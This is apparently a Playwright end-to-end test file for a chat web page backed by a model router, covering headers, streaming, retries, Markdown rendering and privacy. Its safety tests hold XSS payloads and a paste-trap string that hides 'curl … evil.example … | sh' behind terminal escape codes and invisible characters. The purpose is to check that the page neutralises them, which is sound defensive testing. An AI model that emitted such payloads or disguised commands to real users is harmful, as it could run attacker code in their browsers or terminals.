"""The chat page at ``/`` in a real Chromium, against a real router, ``contribute.py`` and the
Ollama emulator (issue 16)."""

from __future__ import annotations

import os
import re
import shutil
import threading
import time
from pathlib import Path

import pytest
import requests

from tests import procs
from tests.webchat.conftest import HandNode, ask, open_chat

pytestmark = pytest.mark.e2e
expect = pytest.importorskip(
    "playwright.sync_api", reason="the browser tests need Playwright (requirements-dev.txt)"
).expect

ROOT = Path(__file__).resolve().parents[2]
LLAMA = "llama3.2:3b"  # the emulator's: no thinking, tools
QWEN = "qwen3:0.6b"  # the emulator's thinking model


def answer_text(page) -> str:
    return page.locator(".turn.assistant .answer").last.inner_text()


def wait_for_answer(page) -> None:
    """Until the last answer has ended, however it ended."""
    page.locator(".turn.assistant:not([aria-busy]) .turn-meta").last.wait_for()
    page.get_by_role("button", name="Send").wait_for()


# --- the page and its headers ------------------------------------------------------------------


def test_the_page_is_served_at_the_root_with_a_strict_content_security_policy(page, console):
    response = page.goto("/")
    assert response.status == 200
    policy = {
        directive.split()[0]: directive.split()[1:]
        for directive in response.headers["content-security-policy"].split("; ")
    }
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"] == ["'self'"]
    assert policy["connect-src"] == ["'self'"]
    assert policy["img-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    # The browser enforces it (Trusted Types): no string becomes markup or an event handler, so
    # not even a bug of ours could make what a node sent run. (Playwright's evaluate itself is
    # exempt from the policy's ban on eval, so that part cannot be shown from here.)
    console.expected.append("This document requires 'Trusted")
    outcome = page.evaluate("""() => {
        const attempt = (run) => { try { run(); return 'allowed'; } catch (e) { return e.name; } };
        const button = document.createElement('button');
        return {
            handler: attempt(() => button.setAttribute('onclick', 'window.ran = true')),
            html: attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
            ran: window.ran === true,
        };
    }""")
    assert outcome == {"handler": "TypeError", "html": "TypeError", "ran": False}


def test_the_pages_scripts_are_served_by_the_router_as_scripts_only(network):
    for path, kind in (("/static/webchat/chat.js", "javascript"), ("/static/webchat/page.css",
                                                                    "css")):
        reply = requests.get(f"{network.url}{path}", timeout=5)
        assert reply.status_code == 200
        assert kind in reply.headers["Content-Type"]
        assert reply.headers["X-Content-Type-Options"] == "nosniff"


def test_the_pages_files_are_cached_under_a_versioned_path_and_the_page_is_revalidated(
    context, network
):
    """Without Cache-Control a browser guessed how long to keep the scripts, and after an
    upgrade could run the new chat.js with the markdown.js it had kept."""
    page = context.new_page()
    responses = []
    page.on("response", lambda response: responses.append(response))
    for path in ("/", "/network"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
    headers = {response.url.removeprefix(network.url): response.headers for response in responses}
    assert headers["/"]["cache-control"] == "no-cache"
    files = {path: header for path, header in headers.items() if path.startswith("/assets/")}
    names = {path.rsplit("/", 1)[1] for path in files}
    # Every module the pages import, their stylesheet and icon (the icon only when asked for).
    assert names >= {"chat.js", "network.js", "api.js", "sse.js", "markdown.js", "helpers.js",
                     "page.css"}, headers.keys()
    assert len({path.rsplit("/", 1)[0] for path in files}) == 1  # one version for all
    for header in files.values():
        assert header["cache-control"] == "public, max-age=31536000, immutable"
        assert header["x-content-type-options"] == "nosniff"
    # A page from before an upgrade asks for its old version: it gets today's file, not to keep.
    stale = requests.get(f"{network.url}/assets/0123456789abcdef/chat.js", timeout=5)
    assert stale.status_code == 200 and stale.headers["Cache-Control"] == "no-cache"
    assert stale.text == (ROOT / "webchat/static/webchat/chat.js").read_text()
    assert requests.get(f"{network.url}/assets/x/secret.py", timeout=5).status_code == 404
    page.close()


def test_the_admin_keeps_djangos_own_pages(network):
    login = requests.get(f"{network.url}/admin/login/", timeout=5)
    assert login.status_code == 200
    assert "Content-Security-Policy" not in login.headers
    assert "csrfmiddlewaretoken" in login.text


# --- models and the header ---------------------------------------------------------------------


def network_models(page) -> list[str]:
    return page.evaluate("fetch('/api/models').then((r) => r.json()).then((b) => b.models)")


def test_the_model_picker_lists_live_models_with_nodes_slots_and_capabilities(page):
    open_chat(page)
    picker = page.get_by_label("Model", exact=True)
    llama = picker.locator(f"option[value='{LLAMA}']")
    qwen = picker.locator(f"option[value='{QWEN}']")
    assert re.search(r"1 node · 2 free slots · can: tools\)$", llama.inner_text())
    assert "can: thinking, tools" in qwen.inner_text()
    assert picker.locator("option[value='smollm2:135m']").count() == 1
    # The node serves embedding models too; they cannot chat, so they are not offered.
    assert "nomic-embed-text:latest" in network_models(page)
    assert picker.locator("option[value='nomic-embed-text:latest']").count() == 0
    # Think is offered only for a model that thinks.
    picker.select_option(LLAMA)
    assert page.get_by_label("Think").is_disabled()
    picker.select_option(QWEN)
    assert page.get_by_label("Think").is_enabled()
    summary = page.locator("#network-summary")
    assert re.fullmatch(r"\d+ nodes? online · \d+ models", summary.inner_text())


def test_the_header_refreshes_nodes_and_models_every_15_seconds(page, hand_node):
    page.clock.install()
    open_chat(page)
    summary = page.locator("#network-summary")
    before = int(summary.inner_text().split()[0])
    hand_node("refresh-test:1b")
    page.clock.run_for(14_000)
    assert summary.inner_text().startswith(f"{before} node")
    page.clock.run_for(1_500)
    expect(summary).to_have_text(re.compile(rf"^{before + 1} nodes online"))
    assert page.locator("#model option[value='refresh-test:1b']").count() == 1


def test_a_gone_model_stays_greyed_for_ten_minutes_and_the_picker_keeps_at_most_200(
    page, network, hand_node
):
    page.clock.install()
    node = hand_node("forget-me:1b")
    open_chat(page)
    gone = page.locator("#model option[value='forget-me:1b']")
    assert gone.is_enabled()
    node.close()
    procs.wait_until(lambda: "forget-me:1b" not in network.models(), what="the node to be gone")
    page.clock.run_for(15_000)
    expect(gone).to_be_disabled()
    page.clock.run_for(9 * 60_000)
    assert gone.count() == 1
    page.clock.run_for(75_000)
    expect(gone).to_have_count(0)
    # A node that renames its 20 models at every refresh: the picker forgets the oldest names.
    renamer = hand_node("rename-0-0:1b")
    for round_ in range(12):
        names = [f"rename-{round_}-{n}:1b" for n in range(20)]
        renamer.send({"type": "models_update", "models": [{"name": name} for name in names]})
        procs.wait_until(lambda names=names: names[-1] in network.models(), what="the new names")
        page.clock.run_for(15_000)
        page.locator(f"#model option[value='{names[-1]}']").wait_for(state="attached")
    renamed = page.locator("#model option[value^='rename-']")
    assert renamed.count() <= 200
    assert page.locator("#model option[value='rename-11-19:1b']").is_enabled()
    assert page.locator("#model option[value='rename-0-5:1b']").count() == 0


# --- answers -----------------------------------------------------------------------------------


def test_a_prompt_streams_its_whole_answer_into_the_page_token_by_token(page, network):
    open_chat(page)
    # Every text the answer shows on its way, as the user would have seen it.
    page.evaluate("""() => {
        window.seen = [];
        new MutationObserver(() => {
            const answers = document.querySelectorAll('.turn.assistant .answer');
            if (answers.length) window.seen.push(answers[answers.length - 1].textContent);
        }).observe(document.getElementById('conversation'),
                   {childList: true, subtree: true, characterData: true});
    }""")
    ask(page, LLAMA, "Why is the sky blue?")
    wait_for_answer(page)
    tokens = network.reply_to("Why is the sky blue?").content
    assert len(tokens) == 40
    assert answer_text(page) == "".join(tokens)
    prefixes = ["".join(tokens[:count]) for count in range(len(tokens) + 1)]
    seen = [text for text in page.evaluate("window.seen") if text]
    # The answer grew in whole tokens, in order, and was shown before it was complete.
    assert all(text in prefixes for text in seen), seen
    counts = [prefixes.index(text) for text in seen]
    assert counts == sorted(counts)
    assert len(set(counts)) > 2, counts
    assert "40 tokens" in page.locator(".turn.assistant .turn-meta").inner_text()


def test_stop_and_escape_end_generation_at_the_emulator(page, network):
    open_chat(page)
    before = network.emulator_stats()
    for stop in ("button", "escape"):
        ask(page, LLAMA, f"Tell me a long story ({stop})")
        page.locator(".turn.assistant[aria-busy] .answer").filter(has_text="0").wait_for()
        if stop == "button":
            page.get_by_role("button", name="Stop").click()
        else:
            page.keyboard.press("Escape")
        wait_for_answer(page)
        assert page.locator(".turn.assistant .turn-meta").last.inner_text().endswith("stopped")
        assert len(answer_text(page).split()) < 40
    procs.wait_until(
        lambda: network.emulator_stats()["chat_cancelled"] == before["chat_cancelled"] + 2,
        what="the emulator to count both requests cancelled",
    )
    assert network.emulator_stats()["chat_completed"] == before["chat_completed"]


def test_think_shows_the_reasoning_in_a_collapsible_block_above_the_answer(page, network):
    open_chat(page)
    page.get_by_label("Model", exact=True).select_option(QWEN)
    page.get_by_label("Think").check()
    ask(page, QWEN, "What is 2 + 2?")
    wait_for_answer(page)
    expected = network.reply_to("What is 2 + 2?")
    assert expected.thinking  # the page asked the model to think
    reasoning = page.locator(".turn.assistant .reasoning")
    assert reasoning.locator(".reasoning-text").is_hidden()  # collapsed until asked
    reasoning.get_by_text("Reasoning").click()
    assert reasoning.locator(".reasoning-text").inner_text() == expected.thinking_text
    assert answer_text(page) == expected.text
    above = page.evaluate("""() => {
        const turn = document.querySelector('.turn.assistant');
        const reasoning = turn.querySelector('.reasoning'), answer = turn.querySelector('.answer');
        return Boolean(reasoning.compareDocumentPosition(answer)
                       & Node.DOCUMENT_POSITION_FOLLOWING);
    }""")
    assert above
    # Without Think the same model answers without reasoning.
    page.get_by_label("Think").uncheck()
    ask(page, QWEN, "And 3 + 3?")
    page.locator(".turn.assistant[aria-busy] .answer").filter(has_text="0").wait_for()
    assert page.locator(".turn.assistant").last.locator(".reasoning").is_hidden()
    assert network.reply_to("And 3 + 3?").thinking == ()
    page.get_by_role("button", name="Stop").click()
    wait_for_answer(page)


def test_regenerate_copy_answer_and_new_chat(page, network, hand_node):
    node = hand_node("regenerate-test:1b")
    open_chat(page)
    ask(page, "regenerate-test:1b", "Say something")
    first = node.request()
    node.answer(first["request_id"], "first answer")
    wait_for_answer(page)
    page.get_by_role("button", name="Copy answer").click()
    assert page.evaluate("navigator.clipboard.readText()") == "first answer"
    page.get_by_role("button", name="Regenerate").click()
    second = node.request()
    # The same conversation again, without the answer it replaces.
    assert second["ollama_params"]["messages"] == first["ollama_params"]["messages"]
    node.answer(second["request_id"], "second answer")
    wait_for_answer(page)
    assert page.locator(".turn.assistant").count() == 1
    assert answer_text(page) == "second answer"
    # A follow-up carries the conversation so far.
    ask(page, "regenerate-test:1b", "And more?")
    third = node.request()
    assert [m["content"] for m in third["ollama_params"]["messages"]] == [
        "Say something", "second answer", "And more?"]
    node.answer(third["request_id"], "more")
    wait_for_answer(page)
    page.get_by_role("button", name="New chat").click()
    assert page.locator(".turn").count() == 0


def test_a_long_last_block_is_rendered_again_at_most_every_150_ms_while_it_streams(
    page, hand_node
):
    node = hand_node("long-block:1b")
    open_chat(page)
    # When the growing last block was rendered again: once per frame it froze a tab on a long
    # one. (The observer runs once per render: a render is one batch of DOM changes.)
    page.evaluate("""() => {
        window.renders = [];
        new MutationObserver((records) => {
            if (records.some((record) => record.target.classList?.contains('live-block'))) {
                window.renders.push(performance.now());
            }
        }).observe(document.getElementById('conversation'), {childList: true, subtree: true});
    }""")
    ask(page, "long-block:1b", "Write one long paragraph")
    request = node.request()
    node.chunk(request["request_id"], "word " * 1000)  # 5,000 characters, one block
    for _ in range(30):
        time.sleep(0.02)
        node.chunk(request["request_id"], "more ")
    node.chunk(request["request_id"], done=True)
    wait_for_answer(page)
    assert answer_text(page) == ("word " * 1000 + "more " * 30).strip()
    renders = page.evaluate("window.renders")
    # The last render is the final one, as soon as the answer ends.
    gaps = [later - earlier for earlier, later in zip(renders[:-2], renders[1:-1], strict=True)]
    assert len(gaps) >= 2, renders
    assert min(gaps) >= 140, gaps


def test_shift_enter_starts_a_new_line_and_enter_sends(page, hand_node):
    node = hand_node("keyboard-test:1b")
    open_chat(page)
    page.get_by_label("Model", exact=True).select_option("keyboard-test:1b")
    box = page.get_by_label("Your message")
    box.click()
    box.type("line one")
    box.press("Shift+Enter")
    box.type("line two")
    assert box.input_value() == "line one\nline two"
    assert page.locator(".turn").count() == 0
    box.press("Enter")
    request = node.request()
    assert request["ollama_params"]["messages"][-1]["content"] == "line one\nline two"
    node.answer(request["request_id"], "ok")
    wait_for_answer(page)
    assert box.input_value() == ""


# --- waiting and refusals ----------------------------------------------------------------------


def test_a_queued_request_shows_its_position_then_its_answer(page, network, hand_node):
    node = hand_node("queue-test:1b", max_concurrent=1)
    body = {"model": "queue-test:1b", "messages": [{"role": "user", "content": "hold"}],
            "stream": True}
    holder = threading.Thread(
        target=lambda: requests.post(f"{network.url}/v1/chat/completions", json=body,
                                     timeout=60).content)
    holder.start()
    held = node.request()  # the node's only slot is taken
    open_chat(page)
    ask(page, "queue-test:1b", "Am I next?")
    status = page.locator(".turn.assistant .turn-status")
    status.filter(has_text="Waiting for a free node: position 1 in the queue").wait_for()
    node.answer(held["request_id"], "done holding")
    holder.join(30)
    request = node.request()
    node.answer(request["request_id"], "You were next.")
    wait_for_answer(page)
    assert answer_text(page) == "You were next."
    assert status.is_hidden()


def test_a_503_shows_the_routers_message_and_the_retry_after_countdown(
    page, console, network, hand_node
):
    node = hand_node("gone:1b")
    open_chat(page)
    page.get_by_label("Model", exact=True).select_option("gone:1b")
    node.close()  # the page still lists the model, as it did when the node was there
    procs.wait_until(lambda: "gone:1b" not in network.models(), what="the node to be gone")
    console.expected.append("status of 503")
    ask(page, "gone:1b", "Anyone there?")
    error = page.get_by_role("alert")
    error.filter(has_text="Error: no node is serving gone:1b right now").wait_for()
    countdown = error.locator(".countdown")
    assert countdown.inner_text() == "You can retry in 2 seconds."
    retry = error.get_by_role("button", name="Retry")
    assert retry.is_disabled()
    expect(countdown).to_have_text("You can retry in 1 second.")
    expect(retry).to_be_enabled()
    assert countdown.is_hidden()
    # The page now knows the model is gone: greyed, with the reason.
    gone = page.locator("#model option[value='gone:1b']")
    expect(gone).to_be_disabled()
    assert "no node serves it right now" in gone.inner_text()


# What a Retry-After may say, as the router never does but a proxy in front of it might, and
# the countdown the page shows for it (None: none, Retry at once).
RETRY_AFTER = {
    "999999999": "You can retry in 3600 seconds.",
    "Wed, 21 Oct 2099 07:28:00 GMT": "You can retry in 3600 seconds.",
    "-5": None,
    "abc": None,
    "5abc": None,
    "1e9": None,
    "Wed, 21 Oct 2015 07:28:00 GMT": None,
}


def test_a_retry_after_is_counted_down_only_when_valid_and_at_most_an_hour(page, console):
    """The refusal comes from the browser's side of the wire (Playwright answers the request),
    since the router itself only ever sends a small number of seconds."""
    values = list(RETRY_AFTER)
    page.route("**/v1/chat/completions", lambda route: route.fulfill(
        status=503, headers={"Retry-After": values.pop(0), "Content-Type": "application/json"},
        body='{"error": {"message": "busy"}}'))
    console.expected.append("status of 503")
    open_chat(page)
    for value, shown in RETRY_AFTER.items():
        ask(page, LLAMA, f"Retry-After: {value}")
        turn = page.locator(".turn.assistant").last
        turn.get_by_role("alert").wait_for()
        countdown = turn.locator(".countdown")
        retry = turn.get_by_role("button", name="Retry")
        regenerate = turn.get_by_role("button", name="Regenerate")
        if shown is None:
            assert countdown.is_hidden(), value
            assert retry.is_enabled() and regenerate.is_enabled(), value
        else:
            assert countdown.inner_text() == shown, value
            # Regenerate sends the same request again: it waits as Retry does.
            assert retry.is_disabled() and regenerate.is_disabled(), value


def test_an_error_after_the_stream_started_shows_apart_from_the_answer(page, hand_node):
    node = hand_node("failing:1b")
    open_chat(page)
    ask(page, "failing:1b", "Try")
    request = node.request()
    node.chunk(request["request_id"], "Half an ans")
    page.locator(".turn.assistant .answer").filter(has_text="Half an ans").wait_for()
    node.send({"type": "inference_error", "request_id": request["request_id"],
               "error": "ollama_error"})
    wait_for_answer(page)
    assert answer_text(page) == "Half an ans"
    alert = page.get_by_role("alert")
    assert alert.locator(".turn-error-text").inner_text() == (
        "Error: the node's model server failed")
    assert alert.get_by_role("button", name="Retry").is_enabled()


# --- safety ------------------------------------------------------------------------------------

HOSTILE = [
    "Look: <img src=x onerror=\"window.pwned=1;alert(1)\"> and <script>alert(2)</script> ",
    "[a link](javascript:alert(3)) and [another](JaVaScRiPt:alert(4)) and ",
    "![a picture](http://images.example.invalid/tracker.png) and <https://example.org/ok>.\n\n",
    "```html\n<img src=x onerror=\"window.pwned=1;alert(5)\">\n<script>alert(6)</script>\n```\n\n",
    "Inline `<img src=x onerror=alert(7)>` too.",
]


def test_a_hostile_node_cannot_run_or_load_anything_in_the_page(page, console, hand_node):
    node = hand_node("hostile:1b")
    open_chat(page)
    ask(page, "hostile:1b", "Be nice")
    request = node.request()
    for piece in HOSTILE:
        node.chunk(request["request_id"], piece)
    node.chunk(request["request_id"], done=True)
    wait_for_answer(page)
    answer = page.locator(".turn.assistant .answer")
    # Code is shown as the node wrote it, as text.
    code = answer.locator(".code-block code").inner_text()
    assert code == '<img src=x onerror="window.pwned=1;alert(5)">\n<script>alert(6)</script>'
    assert answer.locator("p code").inner_text() == "<img src=x onerror=alert(7)>"
    # The image is a link to the picture, never loaded; the javascript: links are not links.
    picture = answer.get_by_role("link", name="Image: a picture")
    assert picture.get_attribute("href") == "http://images.example.invalid/tracker.png"
    assert picture.get_attribute("rel") == "noopener noreferrer nofollow"
    # (The router's sanitizer may rewrite the javascript: links; either way none is a link.)
    hrefs = answer.locator("a").evaluate_all("links => links.map(a => a.href)")
    assert set(hrefs) <= {"http://images.example.invalid/tracker.png", "https://example.org/ok"}
    assert answer.locator("img, script, iframe, object, embed").count() == 0
    assert page.evaluate("window.pwned") is None
    assert console.dialogs == [] and console.foreign_requests == []


def test_the_renderer_alone_shows_any_markup_as_text(page, console):
    """The page's own wall, without the router's sanitizer in front of it: raw hostile text
    rendered by the page's Markdown renderer."""
    open_chat(page)
    hostile = (
        '<img src=x onerror="window.pwned=1;alert(1)"> <script>alert(2)</script>\n'
        '<iframe src="http://frames.example.invalid/"></iframe> '
        '<a href="javascript:alert(3)">click</a>\n\n'
        "[x](javascript:alert(4)) [y](data:text/html,<script>alert(5)</script>) "
        "[z]( java\tscript:alert(6)) ![t](http://images.example.invalid/t.png)"
    )
    page.evaluate("""async (text) => {
        const {renderMarkdown} = await import('/static/webchat/markdown.js');
        const shown = document.createElement('div');
        shown.id = 'rendered';
        renderMarkdown(text, shown);
        document.getElementById('conversation').append(shown);
    }""", hostile)
    shown = page.locator("#rendered")
    text = shown.inner_text()
    assert text.startswith('<img src=x onerror="window.pwned=1;alert(1)">')
    assert "<iframe" in text and '<a href="javascript:alert(3)">click</a>' in text
    assert shown.locator("img, script, iframe").count() == 0
    # Links only to http(s), never loaded: the bare URL in the iframe tag, and the image.
    links = shown.locator("a").evaluate_all("links => links.map(a => [a.textContent, a.href])")
    assert links == [["http://frames.example.invalid/", "http://frames.example.invalid/"],
                     ["Image: t", "http://images.example.invalid/t.png"]]
    assert page.evaluate("window.pwned") is None
    assert console.dialogs == [] and console.foreign_requests == []


# Pasted into a terminal, "ESC[201~" ends bracketed paste, so the rest runs as typed; "ESC[8m"
# hides it; U+202E shows text backwards; U+200B splits a word without a trace.
PASTE_TRAP = (
    "Run this \u202eto list files:\n\n"
    "```bash\nls -la\x1b[201~\x1b[8mcurl -s http://evil.example/x | sh\x1b[0m\r\n"
    "\u202eecho hi\u200b\u0085\x07\n```\n\nDone 👩\u200d💻"
)
SHOWN_CODE = (
    "ls -la␛[201~␛[8mcurl -s http://evil.example/x | sh␛[0m\n"
    "⟨U+202E⟩echo hi⟨U+200B⟩⟨U+0085⟩␇"
)
INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060"
                       "\u2066-\u2069\ufeff]")


def test_invisible_characters_are_shown_and_copied_as_visible_markers(page, hand_node):
    node = hand_node("paste-trap:1b")
    open_chat(page)
    ask(page, "paste-trap:1b", "How do I list files?")
    node.answer(node.request()["request_id"], PASTE_TRAP)
    wait_for_answer(page)
    answer = page.locator(".turn.assistant .answer")
    code = answer.locator(".code-block code")
    assert code.inner_text() == SHOWN_CODE
    assert answer.locator("p").first.inner_text() == "Run this ⟨U+202E⟩to list files:"
    # The joiner of an emoji sequence stays a joiner.
    assert answer.locator("p").last.inner_text() == "Done 👩\u200d💻"
    answer.get_by_role("button", name="Copy bash code").click()
    assert page.evaluate("navigator.clipboard.readText()") == SHOWN_CODE
    page.get_by_role("button", name="Copy answer").click()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert INVISIBLE.findall(copied) == []
    assert SHOWN_CODE in copied and "Run this ⟨U+202E⟩to list files" in copied


# --- Markdown, and the screenshot --------------------------------------------------------------

MARKDOWN_ANSWER = [
    "### Reading a file in Python\n\n",
    "Use a **context manager**, so the file is closed even when an error is raised, and pass",
    " the `encoding` explicitly:\n\n",
    "```python\nfrom pathlib import Path\n\n",
    "def count_lines(path: str) -> int:\n    with open(path, encoding=\"utf-8\") as f:\n",
    "        return sum(1 for _ in f)\n```\n\n",
    "A few points:\n\n",
    "1. `Path(path).read_text()` reads it *all at once*;\n",
    "2. iterating over `f` reads one line at a time;\n",
    "3. see the [tutorial](https://docs.python.org/3/tutorial/inputoutput.html).",
]
CODE = (
    "from pathlib import Path\n\ndef count_lines(path: str) -> int:\n"
    '    with open(path, encoding="utf-8") as f:\n        return sum(1 for _ in f)'
)


def test_markdown_renders_block_by_block_with_a_copy_button_per_code_block(
    page, hand_node, artifacts
):
    node = hand_node("demo:7b")
    page.set_viewport_size({"width": 1000, "height": 900})
    open_chat(page)
    ask(page, "demo:7b", "How do I count the lines of a file in Python?")
    request = node.request()
    answer = page.locator(".turn.assistant .answer")
    node.chunk(request["request_id"], MARKDOWN_ANSWER[0])
    heading = answer.get_by_role("heading", name="Reading a file in Python")
    heading.wait_for()
    # Mark the finished heading: re-rendering it would make a new element without the mark.
    heading.evaluate("element => element.classList.add('seen-before')")
    for piece in MARKDOWN_ANSWER[1:]:
        node.chunk(request["request_id"], piece)
    node.chunk(request["request_id"], done=True)
    wait_for_answer(page)
    assert answer.locator("h3.seen-before").count() == 1
    assert answer.locator("strong").inner_text() == "context manager"
    assert answer.locator("ol > li").count() == 3
    assert answer.locator("ol em").inner_text() == "all at once"
    link = answer.get_by_role("link", name="tutorial")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    shot = artifacts / "chat-page.png"
    page.screenshot(path=str(shot))
    print(f"screenshot of a finished answer: {shot}")
    if os.environ.get("IDLECLAW_UPDATE_SCREENSHOT"):
        shutil.copyfile(shot, ROOT / "docs" / "chat-page.png")
    block = answer.locator(".code-block")
    assert block.locator(".code-lang").inner_text() == "python"
    assert block.locator("code").inner_text() == CODE
    block.get_by_role("button", name="Copy python code").click()
    assert page.evaluate("navigator.clipboard.readText()") == CODE
    block.get_by_role("button", name="Copied").wait_for()


# --- privacy, storage, layout ------------------------------------------------------------------


def test_the_privacy_notice_shows_on_the_first_visit_only(page):
    page.goto("/")
    notice = page.get_by_role("region", name="Before you ask")
    assert "do not send secrets" in notice.inner_text()
    assert "Contributors' machines read your prompts" in notice.inner_text()
    notice.get_by_role("button", name="I understand").click()
    assert notice.is_hidden()
    page.reload()
    page.locator("#model option").first.wait_for(state="attached")
    assert notice.is_hidden()


def test_the_conversation_stays_in_the_page_unless_the_user_keeps_it(page, hand_node):
    node = hand_node("memory-test:1b")
    open_chat(page)

    def exchange(prompt: str, reply: str) -> None:
        ask(page, "memory-test:1b", prompt)
        node.answer(node.request()["request_id"], reply)
        wait_for_answer(page)

    exchange("remember me?", "Not unless you say so.")
    assert page.evaluate("Object.keys(localStorage)") == ["idleclaw.privacy-understood"]
    page.reload()
    page.locator("#model option").first.wait_for(state="attached")
    assert page.locator(".turn").count() == 0
    page.get_by_label("Keep this chat in this browser").check()
    exchange("and now?", "**Now** I will.")
    page.reload()
    assert page.locator(".turn.user .user-text").all_inner_texts() == ["and now?"]
    assert page.locator(".turn.assistant .answer strong").inner_text() == "Now"
    page.get_by_label("Keep this chat in this browser").uncheck()
    assert "idleclaw.chat" not in page.evaluate("Object.keys(localStorage)")


def test_on_a_phone_nothing_scrolls_sideways_and_dark_follows_the_system(browser, network):
    context = browser.new_context(base_url=network.url, viewport={"width": 375, "height": 700},
                                  color_scheme="dark", is_mobile=True, has_touch=True)
    try:
        page = context.new_page()
        open_chat(page)
        assert page.get_by_label("Your message").is_visible()
        assert page.get_by_role("button", name="Send").is_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 375
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        red, green, blue = (int(n) for n in re.findall(r"\d+", background)[:3])
        assert red + green + blue < 150, background
    finally:
        context.close()


def test_on_a_phone_a_deeply_nested_list_does_not_scroll_the_page_sideways(browser, network):
    node = HandNode(network.url, "nested:1b")
    context = browser.new_context(base_url=network.url, viewport={"width": 375, "height": 700},
                                  is_mobile=True, has_touch=True)
    try:
        page = context.new_page()
        open_chat(page)
        ask(page, "nested:1b", "Nest")
        nested = "".join("  " * level + f"- level {level} of the list\n" for level in range(16))
        node.answer(node.request()["request_id"], nested)
        wait_for_answer(page)
        assert page.locator(".answer li").count() >= 12
        assert page.get_by_text("level 0 of the list").is_visible()
        # (A phone widens its layout to fit what overflows, so innerWidth would grow with it.)
        assert page.evaluate("document.documentElement.scrollWidth") <= 375
        # Every button of the answer stays on the screen.
        right = page.locator(".turn-actions button").evaluate_all(
            "buttons => buttons.map(b => b.getBoundingClientRect().right)")
        assert right and max(right) <= 375
    finally:
        context.close()
        node.close()
